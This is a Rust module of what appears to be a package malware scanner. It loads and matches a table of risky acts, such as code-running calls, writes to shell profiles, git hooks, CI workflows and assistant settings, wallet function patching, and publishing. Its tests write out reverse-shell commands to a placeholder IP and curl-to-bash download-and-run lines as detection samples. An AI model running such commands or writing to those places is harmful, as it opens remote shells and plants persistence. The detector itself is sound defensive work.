//! `acts.toml`: what code does on the machine where it runs, beside sending.
//!
//! A field that is not listed here is an error when the table is loaded.

use aho_corasick::AhoCorasick;
use rustc_hash::{FxHashMap, FxHashSet};
use serde::Deserialize;

use super::{
    NotRead,
    pattern::{Matches, PathPattern, RootKey},
    sources::{PathRule, add, in_shell, parts_of},
};

/// The table of acts, compiled for matching.
#[derive(Debug)]
pub(crate) struct ActTable {
    deeds: Vec<Deed>,
    runner_rows: Vec<Runner>,
    /// Calls that run a text as code, by row.
    pub(crate) runners: Matches<usize>,
    /// The globals whose texts are code of the file that writes them out.
    inline: FxHashMap<String, Inline>,
    writer_rows: Vec<Writer>,
    /// Calls that write files, by row.
    pub(crate) writers: Matches<usize>,
    command_writers: Vec<CommandWriter>,
    places: Vec<(PathRule, String)>,
    /// Pieces of the paths of places, and which of them each place has; and names of calls that write.
    place_words: AhoCorasick,
    place_needs: Vec<Vec<usize>>,
    writer_words: Vec<String>,
    /// What hides a path: with it, a file that writes may write anywhere.
    decoders: AhoCorasick,
    /// What is seen of deeds in the code that does them.
    deed_words: AhoCorasick,
    /// Functions of the platform that nobody else replaces, by class.
    pub(crate) patches: Matches<usize>,
    patch_classes: Vec<String>,
    /// Modules whose calls keep what they are given on this machine.
    pub(crate) stores: FxHashSet<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Written {
    #[expect(dead_code, reason = "there is one version of the schema")]
    schema_version: NotRead,
    deed: Vec<Deed>,
    runner: Vec<Runner>,
    needs: Needs,
    writer: Vec<Writer>,
    command_writer: Vec<CommandWriter>,
    place: Vec<Place>,
    patch: Vec<PatchRow>,
    store: Store,
}

/// What keeps what it is given.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Store {
    modules: FxHashSet<String>,
}

/// A command that says something by itself.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Deed {
    class: String,
    #[serde(default)]
    programs: Vec<String>,
    #[serde(default)]
    words: Vec<String>,
    #[serde(default)]
    flags: Vec<String>,
    /// Whether it is given neither a file nor code.
    #[serde(default)]
    bare: bool,
    #[serde(default)]
    text: Vec<String>,
    #[serde(default)]
    any_text: Vec<String>,
    #[serde(default)]
    before: Vec<String>,
    /// Words with which it is something else.
    #[serde(default)]
    without: Vec<String>,
    /// Whether it is given something beside options.
    #[serde(default)]
    with_word: bool,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Needs {
    decoders: Vec<String>,
}

/// A call that runs a text as code.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct Runner {
    #[serde(default)]
    globals: Vec<String>,
    #[serde(default)]
    modules: Vec<String>,
    #[serde(default)]
    code: usize,
    /// Whether the code is the last argument, whichever that is.
    #[serde(default)]
    last: bool,
    /// The option, in the argument behind the code, without which it is no code.
    pub(crate) option: Option<String>,
    /// What a text that is written out is, as code of the file around it.
    inline: Option<Inline>,
    /// Whether it mostly gets a function in the place of code.
    #[serde(default)]
    or_function: bool,
}

/// What a text that is run is to the code around it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum Inline {
    /// Statements that see the names around them.
    Statements,
    /// The body of a function that sees globals alone, behind its parameters.
    Function,
}

/// A call that writes a file.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct Writer {
    #[serde(default)]
    globals: Vec<String>,
    #[serde(default)]
    modules: Vec<String>,
    /// The argument that is its path.
    pub(crate) path: usize,
    /// The argument that is written.
    pub(crate) content: Option<usize>,
    /// The argument that says what the file is opened for, where that may be to read it.
    pub(crate) flags: Option<usize>,
}

/// A program that writes the files which it is told.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct CommandWriter {
    programs: Vec<String>,
    /// One of the options without which it writes none.
    #[serde(default)]
    flags: Vec<String>,
    /// Whether only the last of its words is one that it writes; otherwise all are.
    #[serde(default)]
    last: bool,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Place {
    class: String,
    paths: Vec<String>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct PatchRow {
    class: String,
    #[serde(default)]
    globals: Vec<String>,
    #[serde(default)]
    modules: Vec<String>,
}

/// Letters from which on the name of a call that writes says so: `cp` and `move` are parts of many words, and are looked
/// for as methods.
const TELLING_NAME: usize = 7;

/// Letters from which on the name of a program is no part of other words.
const TELLING_PROGRAM: usize = 4;

/// The module of which such calls are taken by themselves: `const { open, cp } = require('fs/promises')`.
const WAITING_FILES: &str = "fs/promises";

/// The class of a file of another package.
pub(crate) const OTHER_PACKAGE: &str = "other-package";

/// Options behind which code or a module stands.
const TAKING_CODE: [&str; 8] = ["-c", "-e", "-m", "-p", "-n", "-ne", "--eval", "--print"];

/// The class of functions of wallets.
const WALLET: &str = "wallet";

/// Where packages are installed.
const INSTALLED: &str = "node_modules";

impl Deed {
    /// What of it is seen in the code that does it: with the first of its words if it has some, a text that it has, or the
    /// program itself.
    fn seen(&self) -> Vec<String> {
        let of_program = |word: &String| self.programs.iter().map(move |program| format!("{program} {word}")).collect();
        match (self.words.first(), self.text.is_empty()) {
            (Some(word), _) => of_program(word),
            (None, false) => self.text.clone(),
            (None, true) => {
                let programs = if self.before.is_empty() { &self.programs } else { &self.before };
                programs.iter().filter(|program| program.len() >= TELLING_PROGRAM).cloned().collect()
            }
        }
    }
}

impl Runner {
    /// The argument that is the code, of so many.
    pub(crate) fn code_of(&self, arguments: usize) -> Option<usize> {
        if self.last { arguments.checked_sub(1) } else { Some(self.code).filter(|code| *code < arguments) }
    }
}

impl ActTable {
    pub(crate) fn parse(text: &str) -> Self {
        let written: Written = super::read(text, "acts.toml");
        let (mut runners, mut writers, mut patches) = (Matches::new(), Matches::new(), Matches::new());
        for (index, runner) in written.runner.iter().enumerate() {
            add(&mut runners, &runner.globals, &runner.modules, index);
        }
        for (index, writer) in written.writer.iter().enumerate() {
            add(&mut writers, &writer.globals, &writer.modules, index);
        }
        for (index, patch) in written.patch.iter().enumerate() {
            add(&mut patches, &patch.globals, &patch.modules, index);
        }
        let place = |place: &Place| {
            let class = place.class.clone();
            place.paths.iter().map(move |path| (PathRule::parse(path), class.clone())).collect::<Vec<_>>()
        };
        let word = |(root, pattern, _): (&RootKey, &PathPattern, &usize)| match pattern.last_name() {
            Some(name) if name.len() < TELLING_NAME => format!(".{name}("),
            Some(name) => name.to_owned(),
            None => root.name().clone(),
        };
        let mut writer_words: Vec<String> = writers.rows().map(word).chain([WAITING_FILES.to_owned()]).collect();
        writer_words.sort();
        writer_words.dedup();
        let places: Vec<(PathRule, String)> = written.place.iter().flat_map(place).collect();
        let of_places = places.iter().map(|(rule, _)| rule.telling_parts());
        let needs: Vec<Vec<String>> = of_places.chain([vec![INSTALLED.to_owned()]]).collect();
        let mut place_words: Vec<String> = needs.iter().flatten().cloned().collect();
        place_words.sort();
        place_words.dedup();
        let number = |word: &String| place_words.binary_search(word).unwrap_or_default();
        let place_needs = needs.iter().map(|words| words.iter().map(number).collect()).collect();
        let inline = written.runner.iter().filter_map(|runner| Some((runner, runner.inline?)));
        let name = |path: &String| path.split(' ').next().unwrap_or_default().to_owned();
        let inline: FxHashMap<String, Inline> =
            inline.flat_map(|(runner, inline)| runner.globals.iter().map(move |path| (name(path), inline))).collect();
        let deed_words: Vec<String> = written.deed.iter().flat_map(Deed::seen).collect();
        let automaton = |words: &[String]| AhoCorasick::new(words).expect("a few words make a small automaton");
        Self {
            deeds: written.deed,
            command_writers: written.command_writer,
            inline,
            runner_rows: written.runner,
            runners,
            writer_rows: written.writer,
            place_words: automaton(&place_words),
            place_needs,
            decoders: automaton(&written.needs.decoders),
            deed_words: automaton(&deed_words),
            writer_words,
            writers,
            places,
            patches,
            patch_classes: written.patch.into_iter().map(|patch| patch.class).collect(),
            stores: written.store.modules,
        }
    }

    /// What the text that a global of that name runs is to the code around it, where it is code of the file.
    pub(crate) fn inline(&self, global: &str) -> Option<Inline> {
        self.inline.get(global).copied()
    }

    pub(crate) fn runner(&self, row: usize) -> &Runner {
        &self.runner_rows[row]
    }

    /// Whether a global of that name runs texts, but mostly functions.
    pub(crate) fn mostly_runs_functions(&self, name: &str) -> bool {
        self.runners.rows().any(|(root, _, row)| {
            matches!(root, RootKey::Global(global) if global == name) && self.runner_rows[*row].or_function
        })
    }

    pub(crate) fn writer(&self, row: usize) -> &Writer {
        &self.writer_rows[row]
    }

    pub(crate) fn patch_class(&self, row: usize) -> &str {
        &self.patch_classes[row]
    }

    /// Names of wallets whose functions somebody may replace, each with the name of such a function.
    pub(crate) fn wallet_names(&self) -> Vec<(String, String)> {
        let wallets = self.patches.rows().filter(|(_, _, row)| self.patch_classes[**row] == WALLET);
        let names = wallets.filter_map(|(root, pattern, _)| {
            let method = pattern.last_name()?;
            let names: Vec<&str> = pattern.names().collect();
            let wallet = if names.len() > 1 { names[0] } else { root.name().as_str() };
            (wallet != "window").then(|| (wallet.to_owned(), method.to_owned()))
        });
        let mut names: Vec<_> = names.collect();
        names.sort();
        names.dedup();
        names
    }

    /// The names of calls that write.
    pub(crate) fn writer_words(&self) -> impl Iterator<Item = &str> {
        self.writer_words.iter().map(String::as_str)
    }

    /// Whether a text that has one of [these names](Self::writer_words) has a piece of a path at which that matters.
    pub(crate) fn may_write(&self, text: &str) -> bool {
        let mut found = vec![false; self.place_words.patterns_len()];
        self.place_words.find_overlapping_iter(text).for_each(|word| found[word.pattern().as_usize()] = true);
        self.place_needs.iter().any(|words| words.iter().all(|word| found[*word])) || self.decoders.is_match(text)
    }

    /// Whether a text has something of a path that matters, of a command that says something, or of what hides them.
    pub(crate) fn may_act(&self, text: &str) -> bool {
        self.deed_words.is_match(text) || self.may_write(text)
    }

    /// What a command is, by its program, its words, its text, and the programs before it in a pipe.
    pub(crate) fn classes_of(&self, program: &str, words: &[String], text: &str, before: &[&str]) -> Vec<String> {
        let text = text.to_ascii_lowercase();
        let is_bare = || words.iter().all(|word| word.starts_with('-') && !TAKING_CODE.contains(&word.as_str()));
        let holds = |deed: &&Deed| {
            let has_word = |word: &String| words.contains(word);
            (deed.programs.is_empty() || deed.programs.iter().any(|name| name == program))
                && deed.words.iter().all(has_word)
                && (deed.flags.is_empty() || deed.flags.iter().any(has_word))
                && (!deed.bare || is_bare())
                && !deed.without.iter().any(has_word)
                && (!deed.with_word || words.iter().any(|word| !word.starts_with('-')))
                && deed.text.iter().all(|piece| text.contains(piece.as_str()))
                && (deed.any_text.is_empty() || deed.any_text.iter().any(|piece| text.contains(piece.as_str())))
                && (deed.before.is_empty() || deed.before.iter().any(|name| before.contains(&name.as_str())))
        };
        let mut classes: Vec<String> = self.deeds.iter().filter(holds).map(|deed| deed.class.clone()).collect();
        classes.sort();
        classes.dedup();
        classes
    }

    /// The words of a command that name the files which it writes, by their positions.
    pub(crate) fn words_written(&self, program: &str, words: &[String]) -> Vec<usize> {
        let is_writer = |writer: &&CommandWriter| {
            let has_flag = |flag: &String| words.iter().any(|word| word.starts_with(flag.as_str()));
            writer.programs.iter().any(|name| name == program)
                && (writer.flags.is_empty() || writer.flags.iter().any(has_flag))
        };
        let Some(writer) = self.command_writers.iter().find(is_writer) else { return Vec::new() };
        let files = words.iter().enumerate().filter(|(_, word)| !word.starts_with('-')).map(|(at, _)| at);
        let mut files: Vec<usize> = files.collect();
        if writer.last {
            // What is copied comes before where it is copied to.
            files = if files.len() > 1 { files.split_off(files.len() - 1) } else { Vec::new() };
        }
        files
    }

    /// The same for a word of a text for a shell, where `source` is what is written there.
    pub(crate) fn class_of_word(&self, word: &str, source: Option<&str>) -> Option<(&str, String)> {
        let mut path = in_shell(word);
        if path.ends_with('/') {
            path.push_str(source.map_or("", super::file_name));
        }
        self.class_of_path(&path).map(|class| (class, path))
    }

    /// What a place is at which a file is written.
    pub(crate) fn class_of_path(&self, path: &str) -> Option<&str> {
        let (parts, is_absolute) = parts_of(path);
        if is_absolute
            && parts.first().is_some_and(|part| part == "package")
            && !parts.iter().any(|part| part == INSTALLED)
        {
            return None;
        }
        if let Some(at) = parts.iter().rposition(|part| part == INSTALLED) {
            // What begins with a dot belongs to tools, which keep their own there.
            let is_file = parts.len() > at + 2 && !parts[at + 1].starts_with('.');
            return is_file.then_some(OTHER_PACKAGE);
        }
        self.places.iter().find(|(rule, _)| rule.matches(&parts, is_absolute)).map(|(_, class)| class.as_str())
    }
}

#[cfg(test)]
mod tests {
    use molehunt_model::ActKind;

    use crate::Tables;

    #[test]
    fn every_class_is_a_word_that_rules_know() {
        let table = &Tables::embedded().acts;
        let knows = |kind: ActKind, class: &str| assert!(kind.classes().contains(&class), "{class}");
        table.deeds.iter().for_each(|deed| knows(ActKind::RunCommand, &deed.class));
        table.places.iter().for_each(|(_, class)| knows(ActKind::WriteFile, class));
        table.patch_classes.iter().for_each(|class| knows(ActKind::PatchApi, class));
    }

    #[test]
    fn places_are_told_by_their_ends() {
        let table = &Tables::embedded().acts;
        for (path, class) in [
            ("~/.bashrc", Some("shell-profile")),
            ("~/Library/LaunchAgents/a.plist", Some("startup")),
            ("{}/.git/hooks/pre-commit", Some("git-hook")),
            ("./.github/workflows/ci.yml", Some("workflow")),
            ("{}/node_modules/express/index.js", Some("other-package")),
            ("{}/node_modules/.cache/a.js", None),
            ("{}/node_modules/{}", None),
            ("~/.claude/settings.json", Some("assistant")),
            ("/package/CLAUDE.md", None),
            ("dist/index.js", None),
        ] {
            assert_eq!(table.class_of_path(path), class, "{path}");
        }
    }

    #[test]
    fn commands_are_told_by_what_they_are_made_of() {
        let table = &Tables::embedded().acts;
        let classes = |program: &str, text: &str, before: &[&str]| {
            let words: Vec<String> = text.split(' ').skip(1).map(str::to_owned).collect();
            table.classes_of(program, &words, text, before)
        };
        assert_eq!(classes("bash", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1", &[]), ["reverse-shell"]);
        assert_eq!(classes("nc", "nc -e /bin/sh 198.51.100.7 443", &[]), ["reverse-shell"]);
        assert_eq!(classes("sh", "sh", &["curl"]), ["download-and-run"]);
        assert_eq!(classes("python3", "python3 -", &["curl"]), ["download-and-run"]);
        assert_eq!(classes("python3", "python3 -m json.tool", &["curl"]), [""; 0]);
        assert_eq!(classes("bash", "bash -c 'cat < /dev/null > /dev/tcp/localhost/5432'", &[]), [""; 0]);
        assert_eq!(classes("bash", "bash -c 'VERSION=$(curl -s https://versions.example/) make'", &[]), [""; 0]);
        assert_eq!(classes("bash", "bash -c \"$(curl -fsSL https://get.example/a.sh)\"", &[]), ["download-and-run"]);
        assert_eq!(classes("crontab", "crontab -l", &[]), [""; 0]);
        assert_eq!(classes("npm", "npm publish --access public", &[]), ["publish"]);
        assert_eq!(classes("npm", "npm run build", &[]), [""; 0]);
        assert_eq!(classes("git", "git pull", &[]), [""; 0]);
    }
}
